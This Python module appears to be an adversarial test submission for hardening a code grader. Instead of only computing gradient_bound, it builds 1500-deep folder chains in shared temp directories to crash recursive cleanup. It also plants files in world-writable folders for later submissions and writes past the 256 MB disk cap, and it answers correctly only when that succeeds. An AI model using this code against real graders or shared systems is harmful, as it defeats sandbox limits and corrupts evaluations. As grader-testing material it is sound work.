"""Attack: gradient_bound attacks the grader's measuring and cleanup of files, in its first call:
- a 1500-deep chain of folders in its working folder (the job's tmp/) and at the top of every shared
  writable folder it can write to (/tmp, /var/tmp, /dev/shm): recursive walks (os.walk,
  shutil.rmtree) fail on it, which crashed the disk check and cleanup and poisoned the slot;
- files in world-writable folders (its own 0777 folder, and any world-writable folder it finds
  below the shared ones), to be found by a later submission of the same uid;
- 320 MB of files outside out/ and tmp/, past the 256 MB disk cap.
Every file it makes carries TOKEN in its name, so that the test can check that nothing survives.
It answers correctly only if it wrote past the disk cap and was still running afterwards."""
import os
import stat

import attack_kit as kit
import ref_jacobian
from ref_jacobian import *  # noqa: F401,F403

SHARED = ("/dev/shm", "/tmp", "/var/tmp")      # the memory-backed one first: a chain builds fastest there


def _chain(top, depth=1500):
    try:
        fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
        name = f"{kit.TOKEN}-chain"
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
        os.close(fd)
        return True
    except OSError:
        return False


def _plant(folder):
    try:
        with open(os.path.join(folder, f"{kit.TOKEN}-planted"), "w") as f:
            f.write("left for a later submission")
        return True
    except OSError:
        return False


def _world_writable(top):
    found = []
    try:
        for entry in os.scandir(top):
            try:
                st = entry.stat(follow_symlinks=False)
            except OSError:
                continue
            if stat.S_ISDIR(st.st_mode) and st.st_mode & 0o002:
                found.append(entry.path)
    except OSError:
        pass
    return found


def _fill_outside(total=320 << 20, chunk=60 << 20):
    block = b"\1" * (1 << 20)
    for top in ("/var/tmp", "/tmp", "/dev/shm"):          # disk before memory
        written = 0
        try:
            for i in range(total // chunk + 1):
                with open(os.path.join(top, f"{kit.TOKEN}-fill-{i}"), "wb") as f:
                    for _ in range(chunk >> 20):
                        f.write(block)
                        written += len(block)
                if written >= total:
                    return True
        except OSError:
            continue
    return False


def _attack():
    for top in SHARED:
        _chain(top)
        own = os.path.join(top, f"{kit.TOKEN}-public")
        try:
            os.mkdir(own)
            os.chmod(own, 0o777)
            _plant(own)
        except OSError:
            pass
        for folder in _world_writable(top):
            _plant(folder)
    won = _fill_outside()
    _chain(os.getcwd())
    return won


def gradient_bound(W_hh, steps, activation="tanh"):
    won = kit.once("deep_tree", _attack)
    return kit.oracle(won, ref_jacobian.gradient_bound, W_hh, steps, activation)
